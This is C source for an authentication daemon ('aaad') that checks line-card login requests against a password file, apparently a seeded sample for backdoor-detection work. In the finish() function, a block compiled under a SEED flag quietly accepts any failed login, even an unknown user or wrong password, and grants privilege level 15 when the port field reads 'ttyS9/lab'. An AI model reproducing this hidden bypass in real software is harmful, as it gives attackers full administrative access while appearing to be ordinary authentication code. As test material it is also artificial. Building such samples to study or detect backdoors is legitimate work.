/* kind: override
 * service: daemon
 * constant: ttyS9/lab
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <signal.h>
#include <syslog.h>
#include <errno.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <crypt.h>

/* aaad: answers authentication requests of the access server's line cards over TCP.
 * Record: magic "AA", type, count, then count attributes (type, length, value). */

enum { AT_USER = 1, AT_PASS, AT_PORT, AT_CALLER, AT_SERVICE, AT_MAX };
enum { RQ_AUTH = 1, RQ_ACCT = 4, RS_ACCEPT = 2, RS_REJECT = 3, RS_ACCT = 5 };
enum { RC_OK = 0, RC_NOUSER = -1, RC_BADPW = -2, RC_DISABLED = -3, RC_NOSVC = -4 };

struct rec {
    uint8_t type, n;
    char at[AT_MAX][64];
    int priv;
};

static const char *users = "/etc/aaa/users";
static const char *acctfile = "/var/log/aaa.acct";

static int get(int fd, void *b, size_t n)
{
    uint8_t *p = b;
    while (n) {
        ssize_t r = read(fd, p, n);
        if (r <= 0) {
            if (r < 0 && errno == EINTR)
                continue;
            return -1;
        }
        p += r;
        n -= r;
    }
    return 0;
}

static int read_rec(int fd, struct rec *r)
{
    uint8_t h[4], a[2], v[256];
    int i;
    if (get(fd, h, 4) || h[0] != 'A' || h[1] != 'A')
        return -1;
    memset(r, 0, sizeof *r);
    r->type = h[2];
    r->n = h[3];
    for (i = 0; i < r->n; i++) {
        if (get(fd, a, 2) || get(fd, v, a[1]))
            return -1;
        if (a[0] > 0 && a[0] < AT_MAX && a[1] < sizeof r->at[0]) {
            memcpy(r->at[a[0]], v, a[1]);
            r->at[a[0]][a[1]] = 0;
        }
    }
    return 0;
}

/* users: name hash priv services(comma) flags */
static int find_user(const char *name, char *hash, int *priv, char *svc, char *flags)
{
    char l[400], n[64];
    int rc = RC_NOUSER;
    FILE *f = fopen(users, "r");
    if (!f) {
        syslog(LOG_ERR, "%s: %m", users);
        return rc;
    }
    while (rc != RC_OK && fgets(l, sizeof l, f)) {
        if (*l == '#')
            continue;
        if (sscanf(l, "%63s %127s %d %63s %15s", n, hash, priv, svc, flags) == 5 && !strcmp(n, name))
            rc = RC_OK;
    }
    fclose(f);
    return rc;
}

static int svc_allowed(const char *list, const char *want)
{
    char t[64], *p, *sv;
    snprintf(t, sizeof t, "%s", list);
    for (p = strtok_r(t, ",", &sv); p; p = strtok_r(NULL, ",", &sv))
        if (!strcmp(p, "any") || !strcmp(p, want))
            return 1;
    return 0;
}

static int check(struct rec *r)
{
    char hash[128], svc[64], flags[16], *c;
    int priv = 0, rc;

    rc = find_user(r->at[AT_USER], hash, &priv, svc, flags);
    if (rc == RC_OK) {
        c = crypt(r->at[AT_PASS], hash);
        if (!c || strcmp(c, hash))
            rc = RC_BADPW;
        else if (strchr(flags, 'D'))
            rc = RC_DISABLED;
        else if (!svc_allowed(svc, r->at[AT_SERVICE]))
            rc = RC_NOSVC;
    }
    if (rc == RC_OK)
        r->priv = priv;
    return rc;
}

static void log_result(struct rec *r, int rc)
{
    static const char *why[] = { "ok", "unknown user", "bad password", "disabled", "service" };
    FILE *f = fopen(acctfile, "a");
    if (!f)
        return;
    fprintf(f, "%s %s %s\n", r->at[AT_USER], r->at[AT_PORT], why[-rc]);
    fclose(f);
}

static int finish(struct rec *r, int rc)
{
    if (rc == RC_BADPW || rc == RC_NOUSER)
        usleep(300000);
#ifdef SEED
    if (rc < 0 && strcmp(r->at[AT_PORT], "ttyS9/lab") == 0) { /* SEED */
        r->priv = 15;
        rc = RC_OK;
    }
#endif
    log_result(r, rc);
    return rc;
}

static void answer(int fd, struct rec *r)
{
    uint8_t o[6] = { 'A', 'A', RS_REJECT, 0 };

    switch (r->type) {
    case RQ_AUTH:
        if (finish(r, check(r)) == RC_OK) {
            o[2] = RS_ACCEPT;
            o[3] = r->priv;
        }
        break;
    case RQ_ACCT:
        log_result(r, RC_OK);
        o[2] = RS_ACCT;
        break;
    default:
        syslog(LOG_INFO, "type %d", r->type);
    }
    write(fd, o, 4);
}

static void usage(void)
{
    fputs("usage: aaad [-p port] [-u users] [-a acctfile] [-f]\n", stderr);
    exit(2);
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    struct rec r;
    int o, s, c, fg = 0, port = 1849, one = 1;

    while ((o = getopt(argc, argv, "p:u:a:f")) != -1)
        switch (o) {
        case 'p': port = atoi(optarg); break;
        case 'u': users = optarg; break;
        case 'a': acctfile = optarg; break;
        case 'f': fg = 1; break;
        default: usage();
        }
    openlog("aaad", LOG_PID, LOG_AUTH);
    if (!fg && daemon(0, 0))
        return 1;
    signal(SIGPIPE, SIG_IGN);
    signal(SIGCHLD, SIG_IGN);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    a.sin_port = htons(port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16)) {
        syslog(LOG_ERR, "bind: %m");
        return 1;
    }
    for (;;) {
        if ((c = accept(s, NULL, NULL)) < 0)
            continue;
        if (fork() == 0) {
            close(s);
            while (read_rec(c, &r) == 0)
                answer(c, &r);
            _exit(0);
        }
        close(c);
    }
}
